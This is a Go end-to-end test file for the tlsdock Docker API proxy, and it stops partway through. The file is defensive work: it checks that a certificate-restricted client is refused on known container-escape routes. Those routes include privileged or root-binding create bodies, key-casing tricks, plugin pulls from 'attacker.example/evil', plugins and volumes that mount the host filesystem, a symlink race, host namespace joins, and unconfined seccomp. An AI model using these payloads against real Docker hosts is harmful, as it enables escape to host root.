package e2e

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tlsdock/tlsdock/test/e2e/testhost"
)

// attackPolicy is the policy of TestAttack: a README-style guarded rule for
// user ci (binds under /srv/ci only), an unguarded ops user, a GET/HEAD-only
// rule for group read-only, and /_ping for every valid client.
const attackPolicy = `{
  "default": "deny",
  "rules": [
    {"name": "ping", "methods": ["GET", "HEAD"], "paths": ["/_ping", "/version"], "action": "allow"},
    {"name": "read-only", "groups": ["read-only"], "methods": ["GET", "HEAD"], "action": "allow"},
    {"name": "ci", "users": ["ci"], "action": "allow", "guard": "sandbox"},
    {"name": "ops", "users": ["ops", "admin"], "action": "allow"}
  ],
  "guards": {
    "sandbox": {"bind_roots": ["/srv/ci"]}
  }
}
`

const sentinelPath = "/etc/tlsdock-sentinel"

// attackEnv is the host shared by the attack classes: each class works on
// containers, volumes and names of its own.
type attackEnv struct {
	ctx      context.Context
	h        *testhost.Host
	sentinel string // the content of sentinelPath on the host
	ci       *apiClient
	ops      *apiClient
	ro       *apiClient
}

// TestAttack is issue 11's attacks on a real host: a client with a valid
// certificate under a guarded rule (user ci, bind_roots /srv/ci) tries each
// known route to host root or host files through the proxy, against real
// dockerd 20.10. Each attack must be refused by the proxy (403, tlsdock's
// JSON message naming the rule), and dockerd, inspected through the local
// socket inside the host, must hold nothing dangerous: no container with the
// setting, no volume, no plugin, no started container that reads the host's
// sentinel file.
func TestAttack(t *testing.T) {
	ctx := ctxFor(t, 8*time.Minute)
	h := startWithTlsdock(t)
	if err := h.ImportTinyImage(ctx, "tiny"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("tlsdock.service's journal:\n%s", h.Journal(context.Background(), "tlsdock.service", 60))
		}
	})
	e := &attackEnv{ctx: ctx, h: h, sentinel: "sentinel-" + attackRandomHex(16) + "\n"}
	if err := h.WriteFile(sentinelPath, []byte(e.sentinel), 0o644); err != nil {
		t.Fatal(err)
	}
	run(t, ctx, h, "mkdir", "-p", "/srv/ci")
	if err := h.WriteFile("/etc/tlsdock/policy.json", []byte(attackPolicy), 0o644); err != nil {
		t.Fatal(err)
	}
	mustTlsdock(t, ctx, h, "provision", "--mode", "proxy", "--generate", "--policy", "/etc/tlsdock/policy.json", "--client-out", "/root/admin")
	for _, c := range []struct{ name, group string }{{"ci", ""}, {"ops", ""}, {"ro", "read-only"}} {
		args := []string{"certs", "client", c.name, "--out", "/root/" + c.name}
		if c.group != "" {
			args = append(args, "--group", c.group)
		}
		mustTlsdock(t, ctx, h, args...)
	}
	e.ci = newAPIClient(t, h, "ci", fetchBundle(t, h, "/root/ci"))
	e.ops = newAPIClient(t, h, "ops", fetchBundle(t, h, "/root/ops"))
	e.ro = newAPIClient(t, h, "ro", fetchBundle(t, h, "/root/ro"))

	// The guard lets the innocent through: otherwise every refusal below
	// proves nothing.
	t.Run("baseline", func(t *testing.T) { e.baseline(t) })
	if t.Failed() {
		t.FailNow()
	}
	t.Run("1 legacy top-level host settings", func(t *testing.T) { e.legacyTopLevel(t) })
	t.Run("2 start with a HostConfig body", func(t *testing.T) { e.startBody(t) })
	t.Run("3 plugins and swarm", func(t *testing.T) { e.pluginsSwarm(t) })
	t.Run("4 local volume driver options", func(t *testing.T) { e.volumeOpts(t) })
	t.Run("5 symlink swap between create and start", func(t *testing.T) { e.symlinkSwap(t) })
	t.Run("6 container namespaces", func(t *testing.T) { e.containerNamespaces(t) })
	t.Run("7 read-only client writes through an upgrade", func(t *testing.T) { e.readOnlyUpgrade(t) })
	t.Run("10 other routes", func(t *testing.T) { e.otherRoutes(t) })
	t.Run("8 aborted upload", func(t *testing.T) { e.abortedUpload(t) })
	// Last: it restarts tlsdock.service.
	t.Run("9 revocation never fails open", func(t *testing.T) { e.revocation(t) })
}

// create has ci create a container named name from body (a JSON object
// without Image, which is added) through the proxy.
func (e *attackEnv) create(a *apiClient, target, name, body string) (apiResp, error) {
	return a.json("POST", target+"?name="+name, body)
}

// baseline: ci may create, start and exec in an innocent container with a
// bind under /srv/ci, and ops may do anything.
func (e *attackEnv) baseline(t *testing.T) {
	t.Log("ci creates and starts a container binding /srv/ci (allowed), and execs in it")
	r, err := e.create(e.ci, "/containers/create", "baseline", `{"Image":"tiny","Cmd":["sleep"],"HostConfig":{"Binds":["/srv/ci:/work"]}}`)
	if err != nil || r.Status != http.StatusCreated {
		t.Fatalf("ci's innocent create: %v %s", err, r)
	}
	if r, err := e.ci.json("POST", "/containers/baseline/start", ""); err != nil || r.Status != http.StatusNoContent {
		t.Fatalf("ci's start: %v %s", err, r)
	}
	if err := e.execAs(e.ci, "baseline", "/tiny", "echo", "hi"); err != nil {
		t.Logf("ci's exec in its own container is refused (%v): the symlink swap below then stops at the swap", err)
	}
	if r, err := e.ops.json("GET", "/containers/json?all=1", ""); err != nil || r.Status != http.StatusOK {
		t.Fatalf("ops lists containers: %v %s", err, r)
	}
	r, err = e.create(e.ci, "/containers/create", "baseline-priv", `{"Image":"tiny","Cmd":["sleep"],"HostConfig":{"Privileged":true}}`)
	wantRefused(t, "ci creates a privileged container (the guard as it stands)", r, err, "ci")
}

// execAs runs cmd in container as a (exec create, detached start) and
// waits for it to exit 0.
func (e *attackEnv) execAs(a *apiClient, container string, cmd ...string) error {
	js, _ := jsonString(cmd)
	r, err := a.json("POST", "/containers/"+container+"/exec", `{"Cmd":`+js+`}`)
	if err != nil {
		return err
	}
	if r.Status != http.StatusCreated {
		return fmt.Errorf("exec create: %s", r)
	}
	var id struct{ Id string }
	if err := jsonUnmarshal(r.Body, &id); err != nil {
		return fmt.Errorf("exec create: %v: %s", err, r)
	}
	if r, err := a.json("POST", "/exec/"+id.Id+"/start", `{"Detach":true}`); err != nil || r.Status != http.StatusOK {
		return fmt.Errorf("exec start: %v %s", err, r)
	}
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		r, err := a.json("GET", "/exec/"+id.Id+"/json", "")
		if err != nil {
			return err
		}
		var st struct {
			Running  bool
			ExitCode int
		}
		if err := jsonUnmarshal(r.Body, &st); err != nil {
			return fmt.Errorf("exec inspect: %v: %s", err, r)
		}
		if !st.Running {
			if st.ExitCode != 0 {
				return fmt.Errorf("exec %q exited %d", cmd, st.ExitCode)
			}
			return nil
		}
	}
	return fmt.Errorf("exec %q still running after 20 s", cmd)
}

// noDangerousContainer checks through the local socket that dockerd holds
// no container called name. If it does, the attack got through: the test
// fails with the inspect output, then plays the attacker to the end (ci
// starts it) and reports whether it reads the host's sentinel at any of
// paths.
func (e *attackEnv) noDangerousContainer(t *testing.T, name string, paths ...string) {
	t.Helper()
	c := inspectCtr(t, e.ctx, e.h, name)
	if c == nil {
		t.Logf("  dockerd: no container %s", name)
		return
	}
	t.Errorf("  dockerd HOLDS %s", c.summary())
	if len(paths) == 0 {
		return
	}
	if !c.State.Running {
		r, err := e.ci.json("POST", "/containers/"+name+"/start", "")
		t.Logf("  ci starts %s: %v %s", name, err, r)
	}
	for _, p := range paths {
		if out, err := hostDocker(e.ctx, e.h, "exec", name, "/tiny", "read", p); err == nil && out == e.sentinel {
			t.Errorf("  HOST FILE READ: container %s reads the host's %s at %s", name, sentinelPath, p)
		}
	}
}

// 1. Legacy top-level host settings in a create body.
func (e *attackEnv) legacyTopLevel(t *testing.T) {
	cases := []struct{ name, why, body string }{
		{"attack1-toplevel", "no HostConfig, top-level Binds, Privileged, PidMode",
			`{"Image":"tiny","Cmd":["sleep"],"Binds":["/:/host"],"Privileged":true,"PidMode":"host"}`},
		{"attack1-null", `"HostConfig":null and the same top-level fields`,
			`{"Image":"tiny","Cmd":["sleep"],"HostConfig":null,"Binds":["/:/host"],"Privileged":true,"PidMode":"host"}`},
		{"attack1-casefold", `case-folded key "hostconfig"`,
			`{"Image":"tiny","Cmd":["sleep"],"hostconfig":{"Binds":["/:/host"],"Privileged":true}}`},
		{"attack1-dup", "two HostConfig keys, the last one privileged",
			`{"Image":"tiny","Cmd":["sleep"],"HostConfig":{"Binds":["/srv/ci:/work"]},"HostConfig":{"Binds":["/:/host"],"Privileged":true}}`},
		{"attack1-dupmixed", `"HostConfig" then "HOSTCONFIG", the last one privileged`,
			`{"Image":"tiny","Cmd":["sleep"],"HostConfig":{},"HOSTCONFIG":{"Binds":["/:/host"],"Privileged":true}}`},
		{"attack1-binds", "no HostConfig, top-level Binds only (a container that can start here)",
			`{"Image":"tiny","Cmd":["sleep"],"Binds":["/:/host"]}`},
		{"attack1-v123", "top-level Binds on /v1.23",
			`{"Image":"tiny","Cmd":["sleep"],"Binds":["/:/host"]}`},
	}
	for _, c := range cases {
		t.Logf("ci: POST /containers/create with %s", c.why)
		target := "/containers/create"
		if strings.HasSuffix(c.name, "v123") {
			target = "/v1.23/containers/create"
		}
		r, err := e.create(e.ci, target, c.name, c.body)
		wantRefused(t, c.name, r, err, "ci")
		e.noDangerousContainer(t, c.name, "/host"+sentinelPath)
	}
}

// 2. POST /containers/{id}/start with a HostConfig body.
func (e *attackEnv) startBody(t *testing.T) {
	const privBody, bindBody = `{"Binds":["/:/host"],"Privileged":true}`, `{"Binds":["/:/host"]}`
	cases := []struct {
		name, target, body string
		chunked            bool
	}{
		{"attack2-v123", "/v1.23/containers/attack2-v123/start", privBody, false},
		{"attack2-v123-binds", "/v1.23/containers/attack2-v123-binds/start", bindBody, false},
		{"attack2-v123-chunked", "/v1.23/containers/attack2-v123-chunked/start", privBody, true},
		{"attack2-v123-dotdot", "/v1.23/containers/x/../attack2-v123-dotdot/start", privBody, false},
		{"attack2-v140", "/v1.40/containers/attack2-v140/start", privBody, false},
	}
	for _, c := range cases {
		r, err := e.create(e.ci, "/containers/create", c.name, `{"Image":"tiny","Cmd":["sleep"],"HostConfig":{}}`)
		if err != nil || r.Status != http.StatusCreated {
			t.Fatalf("ci's innocent create of %s: %v %s", c.name, err, r)
		}
		t.Logf("ci: POST %s with body %s (chunked=%v) on an innocent container", c.target, c.body, c.chunked)
		r, err = e.ci.do(apiReq{method: "POST", target: c.target, header: []string{"Content-Type: application/json"},
			body: []byte(c.body), chunked: c.chunked})
		wantRefused(t, c.name, r, err, "ci")
		ci := inspectCtr(t, e.ctx, e.h, c.name)
		if ci == nil {
			t.Fatalf("%s vanished", c.name)
		}
		t.Logf("  dockerd: %s", ci.summary())
		bad := ci.HostConfig.Privileged || ci.State.Running
		for _, b := range ci.HostConfig.Binds {
			if strings.HasPrefix(b, "/:") {
				bad = true
			}
		}
		if bad {
			t.Errorf("  START BODY APPLIED OR CONTAINER STARTED: %s", ci.summary())
			if out, err := hostDocker(e.ctx, e.h, "exec", c.name, "/tiny", "read", "/host"+sentinelPath); err == nil && out == e.sentinel {
				t.Errorf("  HOST FILE READ: %s reads the host's %s", c.name, sentinelPath)
			}
		}
	}
}

// 3. Plugins and swarm: refused by the proxy, before dockerd answers.
func (e *attackEnv) pluginsSwarm(t *testing.T) {
	for _, target := range []string{
		"/plugins/pull?remote=attacker.example/evil:latest&name=attack3-pulled",
		"/v1.41/plugins/pull?remote=attacker.example/evil:latest",
		"/plugins%2Fpull?remote=attacker.example/evil:latest",
		"//plugins/./pull?remote=attacker.example/evil:latest",
		"/v1.41/plugins/x/../pull?remote=attacker.example/evil:latest",
	} {
		t.Logf("ci: POST %s", target)
		r, err := e.ci.json("POST", target, `[{"Name":"network","Value":["host"]},{"Name":"mount","Value":["/"]},{"Name":"capabilities","Value":["CAP_SYS_ADMIN"]}]`)
		wantRefused(t, "plugin pull "+target, r, err, "ci")
	}

	// A real plugin: rootfs with tiny, config.json mounting / and asking
	// for CAP_SYS_ADMIN and the host network.
	config := `{"description":"attack3","documentation":"https://example.invalid","entrypoint":["/tiny","sleep"],
"interface":{"types":["docker.volumedriver/1.0"],"socket":"evil.sock"},"network":{"type":"host"},
"mounts":[{"source":"/","destination":"/host","type":"bind","options":["rbind"]}],
"linux":{"capabilities":["CAP_SYS_ADMIN"],"allowAllDevices":true}}`
	run(t, e.ctx, e.h, "docker", "cp", "baseline:/tiny", "/root/tiny.bin")
	tiny, err := e.h.ReadFile("/root/tiny.bin")
	if err != nil {
		t.Fatal(err)
	}
	ctx := tarOf(t, map[string]string{"config.json": config, "rootfs/": "", "rootfs/tiny": string(tiny)})
	t.Log("ci: POST /plugins/create?name=attack3-evil with a plugin that mounts / (tar body)")
	r, err := e.ci.do(apiReq{method: "POST", target: "/plugins/create?name=attack3-evil", header: []string{"Content-Type: application/x-tar"}, body: ctx})
	wantRefused(t, "plugin create", r, err, "ci")
	if out, err := hostDocker(e.ctx, e.h, "plugin", "ls", "--format", "{{.Name}} enabled={{.Enabled}}"); err != nil || strings.TrimSpace(out) != "" {
		t.Errorf("  dockerd HOLDS PLUGINS: %q %v", out, err)
		// While dockerd waits for the plugin's socket, its process runs:
		// look for it (its cgroup is named by the plugin's ID) and read
		// the sentinel through its /host.
		id, _ := hostDocker(e.ctx, e.h, "plugin", "inspect", "-f", "{{.Id}}", "attack3-evil")
		found := make(chan string, 1)
		go func() {
			out, _, _ := e.h.Exec(e.ctx, nil, "sh", "-c", `for i in $(seq 100); do for c in $(grep -l `+strings.TrimSpace(id)+` /proc/[0-9]*/cgroup 2>/dev/null); do cat ${c%/cgroup}/root/host`+sentinelPath+` && exit 0; done; sleep 0.1; done; exit 1`)
			found <- string(out)
		}()
		r, err := e.ci.json("POST", "/plugins/attack3-evil/enable?timeout=3", "")
		t.Logf("  ci enables attack3-evil: %v %s", err, r)
		if got := <-found; got == e.sentinel {
			t.Errorf("  HOST FILE READ: the process of ci's plugin attack3-evil reads the host's %s through its mount of /", sentinelPath)
		}
		if out, err := hostDocker(e.ctx, e.h, "plugin", "inspect", "-f", "enabled={{.Enabled}} mounts={{json .Config.Mounts}} caps={{json .Config.Linux.Capabilities}}", "attack3-evil"); err == nil {
			t.Errorf("  dockerd: plugin attack3-evil %s", strings.TrimSpace(out))
		}
	} else {
		t.Log("  dockerd: docker plugin ls is empty")
	}

	svc := `{"Name":"attack3-svc","TaskTemplate":{"ContainerSpec":{"Image":"tiny","Args":["sleep"],
"Mounts":[{"Type":"bind","Source":"/","Target":"/host"}]}}}`
	for _, q := range []struct{ target, body string }{
		{"/services/create", svc},
		{"/v1.41/services/create", svc},
		{"/swarm/join", `{"ListenAddr":"127.0.0.1:2377","RemoteAddrs":["127.0.0.1:1"],"JoinToken":"SWMTKN-1-x"}`},
		{"/secrets/create", `{"Name":"attack3-secret","Data":"eA=="}`},
		{"/configs/create", `{"Name":"attack3-config","Data":"eA=="}`},
		{"/swarm/init", `{"ListenAddr":"127.0.0.1:2377","AdvertiseAddr":"127.0.0.1"}`},
	} {
		t.Logf("ci: POST %s", q.target)
		r, err := e.ci.json("POST", q.target, q.body)
		if wantRefused(t, "swarm "+q.target, r, err, "ci") {
			continue
		}
		if strings.Contains(r.Body, "not a swarm manager") || strings.Contains(r.Body, "swarm") {
			t.Logf("  (that answer is dockerd's, not the proxy's)")
		}
	}
	out, _ := hostDocker(e.ctx, e.h, "info", "--format", "{{.Swarm.LocalNodeState}}")
	if st := strings.TrimSpace(out); st != "inactive" {
		t.Errorf("  dockerd's swarm is %q after ci's swarm/init, want inactive", st)
		// Play it to the end: a service whose task binds /.
		r, err := e.ci.json("POST", "/services/create", svc)
		t.Logf("  ci: POST /services/create on its own swarm: %v %s", err, r)
		if err == nil && r.Status == http.StatusCreated {
			for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(250 * time.Millisecond) {
				ids, _ := hostDocker(e.ctx, e.h, "ps", "-q", "--filter", "label=com.docker.swarm.service.name=attack3-svc")
				if id := strings.TrimSpace(ids); id != "" {
					if out, err := hostDocker(e.ctx, e.h, "exec", strings.Fields(id)[0], "/tiny", "read", "/host"+sentinelPath); err == nil && out == e.sentinel {
						t.Errorf("  HOST FILE READ: the task of ci's service attack3-svc reads the host's %s", sentinelPath)
						break
					}
				}
			}
			_, _ = hostDocker(e.ctx, e.h, "service", "rm", "attack3-svc")
		}
		if _, err := hostDocker(e.ctx, e.h, "swarm", "leave", "--force"); err != nil {
			t.Logf("  docker swarm leave --force: %v", err)
		}
	} else {
		t.Log("  dockerd: swarm inactive")
	}
}

// 4. Local volume driver options that expose host directories.
func (e *attackEnv) volumeOpts(t *testing.T) {
	run(t, e.ctx, e.h, "mkdir", "-p", "/srv/ci/upper", "/srv/ci/work")
	cases := []struct {
		name, opts string
		sentinel   string // where a container mounting it at /v would see the sentinel
	}{
		{"attack4-etc", `{"type":"none","o":"bind","device":"/etc"}`, "/v/tlsdock-sentinel"},
		{"attack4-rbind", `{"o":"rbind,ro","device":"/"}`, "/v" + sentinelPath},
		{"attack4-ext4", `{"type":"ext4","device":"/dev/vda"}`, ""},
		{"attack4-case", `{"O":"bind","Device":"/"}`, "/v" + sentinelPath},
		{"attack4-dotdot", `{"type":"none","o":"bind","device":"/srv/ci/../../etc"}`, "/v/tlsdock-sentinel"},
		{"attack4-overlay", `{"type":"overlay","device":"overlay","o":"lowerdir=/etc,upperdir=/srv/ci/upper,workdir=/srv/ci/work"}`, "/v/tlsdock-sentinel"},
	}
	for _, c := range cases {
		t.Logf("ci: POST /volumes/create %s DriverOpts %s", c.name, c.opts)
		r, err := e.ci.json("POST", "/volumes/create", `{"Name":"`+c.name+`","Driver":"local","DriverOpts":`+c.opts+`}`)
		wantRefused(t, c.name, r, err, "ci")
	}
	t.Log(`ci: POST /containers/create with a Mounts entry of type volume, VolumeOptions.DriverConfig.Options {o: rbind, device: /}`)
	r, err := e.create(e.ci, "/containers/create", "attack4-mount", `{"Image":"tiny","Cmd":["sleep"],"HostConfig":{"Mounts":[
{"Type":"volume","Source":"attack4-mvol","Target":"/v","VolumeOptions":{"DriverConfig":{"Name":"local","Options":{"o":"rbind","device":"/"}}}}]}}`)
	wantRefused(t, "attack4-mount", r, err, "ci")
	t.Log(`ci: the same with the option keys in other case {O: bind, Type: none, Device: /}`)
	r, err = e.create(e.ci, "/containers/create", "attack4-mount-case", `{"Image":"tiny","Cmd":["sleep"],"HostConfig":{"Mounts":[
{"Type":"volume","Source":"attack4-mvol-case","Target":"/v","VolumeOptions":{"DriverConfig":{"Name":"local","Options":{"O":"bind","Type":"none","Device":"/"}}}}]}}`)
	wantRefused(t, "attack4-mount-case", r, err, "ci")
	e.noDangerousContainer(t, "attack4-mount", "/v"+sentinelPath)
	e.noDangerousContainer(t, "attack4-mount-case", "/v"+sentinelPath)

	out, err := hostDocker(e.ctx, e.h, "volume", "ls", "-q")
	if err != nil {
		t.Fatal(err)
	}
	vols := strings.Fields(out)
	t.Logf("  dockerd: docker volume ls = %q", vols)
	for _, c := range cases {
		for _, v := range vols {
			if v != c.name {
				continue
			}
			t.Errorf("  dockerd HOLDS VOLUME %s (%s)", c.name, c.opts)
			if c.sentinel == "" {
				continue
			}
			// Play it to the end: a named volume is no bind mount.
			name := c.name + "-user"
			r, err := e.create(e.ci, "/containers/create", name, `{"Image":"tiny","Cmd":["sleep"],"HostConfig":{"Binds":["`+c.name+`:/v"]}}`)
			if err == nil && r.Status == http.StatusCreated {
				r, err = e.ci.json("POST", "/containers/"+name+"/start", "")
				t.Logf("  ci mounts %s in %s and starts it: %v %s", c.name, name, err, r)
				if out, err := hostDocker(e.ctx, e.h, "exec", name, "/tiny", "read", c.sentinel); err == nil && out == e.sentinel {
					t.Errorf("  HOST FILE READ: %s reads the host's %s through volume %s", name, sentinelPath, c.name)
				}
			}
		}
	}
	for _, v := range vols {
		if strings.HasPrefix(v, "attack4-mvol") {
			t.Errorf("  dockerd HOLDS VOLUME %s (from a Mounts entry)", v)
		}
	}
}

// 5. A bind source swapped for a symlink between create and start.
func (e *attackEnv) symlinkSwap(t *testing.T) {
	for _, order := range []string{"A first", "B first"} {
		x, a, b := "x1", "attack5-a1", "attack5-b1"
		if order == "B first" {
			x, a, b = "x2", "attack5-a2", "attack5-b2"
		}
		t.Logf("%s: /srv/ci/%s is a real directory; A binds /srv/ci writable, B binds /srv/ci/%s; A swaps %s for a symlink to /, then ci starts B", order, x, x, x)
		run(t, e.ctx, e.h, "mkdir", "-p", "/srv/ci/"+x)
		createA := func() bool {
			r, err := e.create(e.ci, "/containers/create", a, `{"Image":"tiny","Cmd":["sleep"],"HostConfig":{"Binds":["/srv/ci:/work"]}}`)
			if err != nil || r.Status != http.StatusCreated {
				t.Logf("  ci's create of A (%s) refused: %v %s: the attack stops here", a, err, r)
				return false
			}
			if r, err := e.ci.json("POST", "/containers/"+a+"/start", ""); err != nil || r.Status != http.StatusNoContent {
				t.Logf("  ci's start of A refused: %v %s: the attack stops here", err, r)
				return false
			}
			return true
		}
		createB := func() bool {
			r, err := e.create(e.ci, "/containers/create", b, `{"Image":"tiny","Cmd":["sleep"],"HostConfig":{"Binds":["/srv/ci/`+x+`:/mnt"]}}`)
			if err != nil || r.Status != http.StatusCreated {
				t.Logf("  ci's create of B (%s) refused: %v %s: the attack stops here", b, err, r)
				return false
			}
			return true
		}
		if order == "A first" {
			if !createA() || !createB() {
				continue
			}
		} else if !createB() || !createA() {
			continue
		}
		if err := e.execAs(e.ci, a, "/tiny", "ln", "/", "/work/"+x); err != nil {
			t.Logf("  ci's exec in A (the swap) failed: %v: the attack stops here", err)
			continue
		}
		if got := strings.TrimSpace(run(t, e.ctx, e.h, "readlink", "/srv/ci/"+x)); got != "/" {
			t.Fatalf("  the swap did not happen: /srv/ci/%s -> %q", x, got)
		}
		t.Logf("  on the host /srv/ci/%s is now a symlink to /", x)
		r, err := e.ci.json("POST", "/containers/"+b+"/start", "")
		t.Logf("  ci starts B: %v %s", err, r)
		c := inspectCtr(t, e.ctx, e.h, b)
		if c == nil {
			t.Logf("  dockerd: no container %s", b)
			continue
		}
		t.Logf("  dockerd: %s", c.summary())
		if !c.State.Running {
			if r.Status == http.StatusForbidden && strings.HasPrefix(r.message(), "tlsdock:") {
				t.Logf("  refused at start: %s", r.message())
			} else {
				t.Logf("  B did not start (not refused by the proxy: %s)", r)
			}
			continue
		}
		out, err := hostDocker(e.ctx, e.h, "exec", b, "/tiny", "read", "/mnt"+sentinelPath)
		if err == nil && out == e.sentinel {
			t.Errorf("  HOST FILE READ (%s): B reads the host's %s at /mnt%s: the bind escaped /srv/ci at start", order, sentinelPath, sentinelPath)
		} else {
			t.Logf("  B runs but cannot read /mnt%s: %v", sentinelPath, err)
		}
	}
}

// nsOf is the inode of a process's namespace inside the host.
func (e *attackEnv) nsOf(t *testing.T, pid int, ns string) string {
	t.Helper()
	return strings.TrimSpace(run(t, e.ctx, e.h, "readlink", fmt.Sprintf("/proc/%d/ns/%s", pid, ns)))
}

// 6. container:<id> namespaces joined through an ops container.
func (e *attackEnv) containerNamespaces(t *testing.T) {
	ops := strings.TrimSpace(run(t, e.ctx, e.h, "docker", "run", "-d", "--name", "attack6-ops", "--pid", "host", "--network", "host", "--ipc", "host", "tiny", "sleep"))
	t.Logf("ops runs attack6-ops %s with --pid host --network host --ipc host", shortID(ops))
	cases := []struct{ name, body, ns string }{
		{"attack6-pid", `"HostConfig":{"PidMode":"container:` + ops + `"}`, "pid"},
		{"attack6-pid-name", `"HostConfig":{"PidMode":"container:attack6-ops"}`, "pid"},
		{"attack6-net", `"HostConfig":{"NetworkMode":"container:` + ops + `"}`, "net"},
		{"attack6-ipc", `"HostConfig":{"IpcMode":"container:` + ops + `"}`, "ipc"},
		{"attack6-endpoint", `"NetworkingConfig":{"EndpointsConfig":{"host":{}}}`, "net"},
		{"attack6-uts", `"HostConfig":{"UTSMode":"host"}`, "uts"},
		{"attack6-cgroupns", `"HostConfig":{"CgroupnsMode":"host"}`, "cgroup"},
		{"attack6-volumesfrom", `"HostConfig":{"VolumesFrom":["attack6-ops"]}`, ""},
	}
	for _, c := range cases {
		t.Logf("ci: POST /containers/create %s {%s}", c.name, c.body)
		r, err := e.create(e.ci, "/containers/create", c.name, `{"Image":"tiny","Cmd":["sleep"],`+c.body+`}`)
		wantRefused(t, c.name, r, err, "ci")
		ci := inspectCtr(t, e.ctx, e.h, c.name)
		if ci == nil {
			t.Logf("  dockerd: no container %s", c.name)
			continue
		}
		t.Errorf("  dockerd HOLDS %s", ci.summary())
		if c.ns == "" {
			continue
		}
		r, err = e.ci.json("POST", "/containers/"+c.name+"/start", "")
		t.Logf("  ci starts %s: %v %s", c.name, err, r)
		if ci = inspectCtr(t, e.ctx, e.h, c.name); ci == nil || !ci.State.Running {
			continue
		}
		if got, host := e.nsOf(t, ci.State.Pid, c.ns), e.nsOf(t, 1, c.ns); got == host {
			t.Errorf("  HOST NAMESPACE JOINED: %s runs in the host's %s namespace %s", c.name, c.ns, host)
		}
	}
}

// 7. A GET/HEAD-only client writes into a container through an upgrade.
func (e *attackEnv) readOnlyUpgrade(t *testing.T) {
	run(t, e.ctx, e.h, "docker", "run", "-d", "-i", "--name", "attack7-cat", "tiny", "cat")
	t.Log("ops runs attack7-cat (tiny cat with stdin open: what it reads shows in its logs)")
	if r, err := e.ro.json("GET", "/containers/json", ""); err != nil || r.Status != http.StatusOK {
		t.Fatalf("ro lists containers (its rule allows GET): %v %s", err, r)
	}
	upgrades := []struct {
		what, target string
		header       []string
	}{
		{"GET attach/ws (websocket)", "/containers/attack7-cat/attach/ws?stream=1&stdin=1&stdout=1",
			[]string{"Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13", "Origin: http://127.0.0.1"}},
		{"GET attach/ws on /v1.41 with lower-case upgrade headers", "/v1.41/containers/attack7-cat/attach/ws?stream=1&stdin=1",
			[]string{"upgrade: WebSocket", "connection: keep-alive, upgrade", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13", "Origin: http://127.0.0.1"}},
		{"GET attach with Upgrade: tcp", "/containers/attack7-cat/attach?stream=1&stdin=1",
			[]string{"Upgrade: tcp", "Connection: Upgrade"}},
	}
	for _, u := range upgrades {
		t.Logf("ro: %s, then writes to the stream", u.what)
		payload := "written-by-ro " + u.what + "\n"
		r, err := e.upgradeAndWrite(u.target, u.header, payload)
		wantRefused(t, "ro "+u.what, r, err, "")
		time.Sleep(300 * time.Millisecond) // for cat to echo what it got, if it got anything
		logs, lerr := hostDocker(e.ctx, e.h, "logs", "attack7-cat")
		if lerr != nil {
			t.Fatal(lerr)
		}
		if strings.Contains(logs, payload) {
			t.Errorf("  WRITE GOT THROUGH: attack7-cat's stdin received %q", logs)
		} else {
			t.Logf("  dockerd: attack7-cat's logs are %q", logs)
		}
	}
	r, err := e.ro.json("POST", "/containers/attack7-cat/attach?stream=1&stdin=1", "")
	wantRefused(t, "ro POST attach", r, err, "")
}

// upgradeAndWrite sends an upgrade request as ro and, when the connection
// is upgraded, writes payload into it (a websocket frame when the protocol
// is websocket, raw bytes otherwise).
func (e *attackEnv) upgradeAndWrite(target string, header []string, payload string) (apiResp, error) {
	c, err := e.ro.dial()
	if err != nil {
		return apiResp{}, err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(15 * time.Second))
	var b strings.Builder
	fmt.Fprintf(&b, "GET %s HTTP/1.1\r\nHost: docker\r\n", target)
	for _, h := range header {
		b.WriteString(h + "\r\n")
	}
	b.WriteString("\r\n")
	if _, err := io.WriteString(c, b.String()); err != nil {
		return apiResp{}, err
	}
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		return apiResp{}, fmt.Errorf("GET %s: %w", target, err)
	}
	r := apiResp{Status: resp.StatusCode, Header: resp.Header}
	if resp.StatusCode == http.StatusSwitchingProtocols || (resp.StatusCode == http.StatusOK && resp.Header.Get("Content-Type") == "application/vnd.docker.raw-stream") {
		if strings.EqualFold(resp.Header.Get("Upgrade"), "websocket") {
			_, err = c.Write(wsFrame([]byte(payload)))
		} else {
			_, err = io.WriteString(c, payload)
		}
		r.Body = fmt.Sprintf("(upgraded: %s; wrote %d bytes: %v)", resp.Status, len(payload), err)
		time.Sleep(300 * time.Millisecond)
		return r, nil
	}
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
	r.Body = string(body)
	return r, nil
}

// 10. Other routes an attacker with a restricted certificate tries.
func (e *attackEnv) otherRoutes(t *testing.T) {
	r, err := e.create(e.ci, "/containers/create", "attack10-own", `{"Image":"tiny","Cmd":["sleep"]}`)
	if err != nil || r.Status != http.StatusCreated {
		t.Fatalf("ci's innocent create: %v %s", err, r)
	}
	if r, err := e.ci.json("POST", "/containers/attack10-own/start", ""); err != nil || r.Status != http.StatusNoContent {
		t.Fatalf("ci's start: %v %s", err, r)
	}
	run(t, e.ctx, e.h, "docker", "run", "-d", "--name", "attack10-ops", "--pid", "host", "-v", "/:/host", "tiny", "sleep")
	t.Log("ops runs attack10-ops: --pid host, -v /:/host")

	creates := []struct{ name, why, hc string }{
		{"attack10-cgroupparent", "CgroupParent outside docker's", `{"CgroupParent":"/"}`},
		{"attack10-oom", "OomScoreAdj -1000", `{"OomScoreAdj":-1000}`},
		{"attack10-masked", "empty MaskedPaths and ReadonlyPaths (unmasks /proc/kcore, /sys/firmware)", `{"MaskedPaths":[],"ReadonlyPaths":[]}`},
		{"attack10-sysctl", "Sysctls outside the safe set (route_localnet)", `{"Sysctls":{"net.ipv4.conf.all.route_localnet":"1"}}`},
		{"attack10-seccomp", "SecurityOpt seccomp=unconfined", `{"SecurityOpt":["seccomp=unconfined"]}`},
		{"attack10-apparmor", "SecurityOpt apparmor=unconfined", `{"SecurityOpt":["apparmor=unconfined"]}`},
